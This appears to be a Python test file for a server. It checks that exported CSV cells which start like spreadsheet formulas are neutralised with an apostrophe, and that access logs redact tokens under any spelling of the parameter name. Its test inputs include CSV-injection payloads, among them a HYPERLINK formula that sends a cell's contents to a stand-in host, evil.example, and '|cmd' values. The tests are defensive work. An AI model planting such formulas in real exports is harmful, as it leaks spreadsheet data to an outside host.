"""Data leaving the system: CSV files and the server's logs.

Every CSV the server writes, and the dashboards' own exports, follow one rule: a text cell a
spreadsheet would run as a formula (starting with = + - @, a tab or a carriage return) gets a
leading apostrophe; numbers stay numbers. Checked on the K-factor CSV of a real server (SQLite and
PostgreSQL) fed attacker-chosen invite sources, and the browser's rule against the server's on the
same cells (node runs web/static/common.js itself). The access log never shows a token, however its
parameter name is spelled or percent-encoded: a real `serve` process logs real requests.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import shutil
import subprocess
import time
from pathlib import Path
from typing import Any

import httpx
from loop_kit import loop_world
from servers import ROOT, PhxClient, make_token

from metrics import guardrails
from metrics.growth import csv_cell, to_csv
from web.logs import redact

# What a client may put in an invite's `source`, and how each must reach a spreadsheet.
SOURCES = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "-1+1|cmd": "'-1+1|cmd",
    "+SUM(1,2)": "'+SUM(1,2)",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "plain_source": "plain_source",
}


def sections(text: str) -> dict[str, list[dict[str, str]]]:
    """The K-factor CSV's tables (after the headline numbers), by section name."""
    lines = list(csv.reader(io.StringIO(text)))
    found: dict[str, list[dict[str, str]]] = {}
    for i, line in enumerate(lines):
        if line == [] and i + 1 < len(lines):
            name, rows = lines[i + 1][0], []
            header = lines[i + 2] if i + 2 < len(lines) else []
            for row in lines[i + 3 :] if header else []:
                if row == []:
                    break
                rows.append(dict(zip(header, row, strict=True)))
            found[name] = rows
    return found


async def test_the_k_factor_csv_neutralises_what_clients_wrote_and_keeps_numbers(database_url):
    async with loop_world(database_url) as world:
        for n, source in enumerate(SOURCES):
            await world.event("invite_sent", f"sender{n}", source=source)
        await world.event("session_started", "reader", subject="algebra")
        admin = world.headers("ops", "admin")
        served = await world.http.get("/api/metrics/k-factor?days=30&format=csv", headers=admin)
        assert served.status_code == 200 and served.headers["content-type"].startswith("text/csv")
        by_source = {row["source"]: row for row in sections(served.text)["by_source"]}
        assert set(by_source) == set(SOURCES.values())
        report = (await world.http.get("/api/metrics/k-factor?days=30", headers=admin)).json()
        for row in report["by_source"]:
            cells = by_source[SOURCES[row["source"]]]
            # The numbers are written as numbers: the same values as the JSON, no apostrophe.
            for key in ("invites_sent", "signups", "k_factor"):
                assert float(cells[key]) == row[key], (key, cells)
        headline = dict(line[:2] for line in csv.reader(io.StringIO(served.text)) if len(line) == 2)
        assert int(headline["invites_sent"]) == len(SOURCES)


def test_the_rule_keeps_numbers_and_quotes_formulas():
    assert [csv_cell(v) for v in (-1.5, 0, 7, None, True)] == [-1.5, 0, 7, "", True]
    assert [csv_cell(v) for v in ("-1", "=1", "+1", "@a", "\tx", "\rx", "a=b", " =1")] == [
        "'-1", "'=1", "'+1", "'@a", "'\tx", "'\rx", "a=b", " =1",
    ]  # fmt: skip
    assert to_csv([["metric", "value"], ["k_factor", -0.25], ["source", "=1+1"]]) == (
        "metric,value\r\nk_factor,-0.25\r\nsource,'=1+1\r\n"
    )


def test_the_weekly_guardrails_summary_csv_follows_the_same_rule():
    summary = {
        "loops": {"-A1+1": {"shown": 2, "opt_out_rate": -0.5}},
        "global": {"=cmd": None, "sessions_per_user_drop": -0.1},
        "alerts": [
            {
                "metric": "@SUM(A1)",
                "scope": "experiment:-A1",
                "level": "warn",
                "value": -0.3,
                "threshold": 0.2,
                "state": "open",
                "created_at": "2026-01-05T08:00:00+00:00",
            }
        ],
    }
    rows = list(csv.reader(io.StringIO(guardrails.summary_csv(summary))))
    cells = [cell for row in rows for cell in row]
    assert "'loop:-A1+1" not in cells and "loop:-A1+1" in cells  # starts with "l": no formula
    assert {"'=cmd", "'@SUM(A1)"} <= set(cells) and "=cmd" not in cells
    assert {"-0.5", "-0.1", "-0.3"} <= set(cells)  # numbers as they are


def node_csv(columns: list[str], rows: list[dict[str, Any]]) -> str:
    """`toCsv` of web/static/common.js, run by node on these rows."""
    node = shutil.which("node")
    assert node, "node is required"
    script = (
        f"const {{ toCsv }} = await import({json.dumps(str(ROOT / 'web' / 'static' / 'common.js'))});"
        "const { columns, rows } = JSON.parse(process.argv[1]);"
        "process.stdout.write(toCsv(columns.map((key) => ({ key })), rows));"
    )
    done = subprocess.run(
        [node, "--input-type=module", "-e", script, json.dumps({"columns": columns, "rows": rows})],
        capture_output=True,
        timeout=30,
        check=True,
    )
    return done.stdout.decode()  # as written: CSV lines end in CRLF


def as_number(cell: str) -> float | str:
    try:
        return float(cell)
    except ValueError:
        return cell


def test_the_dashboards_exports_follow_the_servers_rule_cell_for_cell():
    columns = ["source", "invites_sent", "k_factor", "note"]
    rows = [
        {"source": source, "invites_sent": n, "k_factor": -0.25 * n, "note": None}
        for n, source in enumerate(SOURCES, start=1)
    ]
    rows.append({"source": "-5", "invites_sent": -5, "k_factor": 1.5, "note": 'say "hi", then go'})
    from_browser = node_csv(columns, rows)
    from_server = to_csv([columns, *([row[c] for c in columns] for row in rows)])
    parsed = list(csv.reader(io.StringIO(from_browser)))
    # Cell for cell; a number may be written -1 or -1.0, the same number to a spreadsheet.
    assert [[as_number(c) for c in row] for row in parsed] == [
        [as_number(c) for c in row] for row in csv.reader(io.StringIO(from_server))
    ]
    assert from_browser.endswith('"\r\n') and from_browser.count("\r\n") == len(rows) + 1
    assert [r[0] for r in parsed[1:-1]] == list(SOURCES.values())
    assert parsed[-1] == ["'-5", "-5", "1.5", 'say "hi", then go']  # the text "-5" is text, -5 a number


# The access log.


def test_redaction_reads_parameter_names_as_the_server_decodes_them():
    for query in ("token=abc", "%74oken=abc", "TOKEN=abc", "To%6Ben=abc", "%2574oken=abc", "+token=abc"):
        assert redact(f'"GET /x?a=1&{query}&b=2 HTTP/1.1"') == (
            f'"GET /x?a=1&{query.split("=")[0]}=[redacted]&b=2 HTTP/1.1"'
        ), query
    for kept in ("tokens=abc", "my_token=abc", "a=token", "token"):
        assert redact(f"/x?{kept}") == f"/x?{kept}"


async def test_the_access_log_never_shows_a_token_however_its_name_is_spelled(server_factory):
    server = server_factory(args=("--access-log", "--ws", "websockets-sansio"))
    spellings = ["token", "%74oken", "TOKEN", "To%6Ben", "%54%4F%4B%45%4E"]
    tokens = {name: make_token(f"reader{i}") for i, name in enumerate(spellings)}
    async with httpx.AsyncClient(base_url=server.http, timeout=10) as http:
        for name, token in tokens.items():
            response = await http.get(f"/api/feeds/global?limit=5&{name}={token}", headers=bearer(token))
            assert response.status_code == 200, response.text
    # The socket takes its token from the query, with the name decoded: its log line too.
    socket_token = make_token("socket-reader")
    client = await PhxClient.connect(
        f"ws://127.0.0.1:{server.port}/socket/websocket?vsn=2.0.0&%74oken={socket_token}"
    )
    try:
        assert (await client.join("user:socket-reader"))["status"] == "ok"
    finally:
        await client.close()
    log = await logged(server.log_path, "%74oken=[redacted]", count=2)
    for token in [*tokens.values(), socket_token]:
        assert token not in log and token.split(".")[2] not in log
    for name in spellings:  # the access formatter still writes whole lines
        assert f'"GET /api/feeds/global?limit=5&{name}=[redacted] HTTP/1.1" 200' in log, log[-2000:]
    assert '"WebSocket /socket/websocket?vsn=2.0.0&%74oken=[redacted]"' in log, log[-2000:]
    assert "Logging error" not in log


def bearer(token: str) -> dict[str, str]:
    return {"authorization": f"Bearer {token}"}


async def logged(path: Path, needle: str, *, count: int, timeout: float = 5.0) -> str:
    """The server's log once `needle` is in it `count` times."""
    deadline = time.monotonic() + timeout
    while True:
        text = await asyncio.to_thread(path.read_text, errors="replace")
        if text.count(needle) >= count or time.monotonic() > deadline:
            return text
        await asyncio.sleep(0.05)
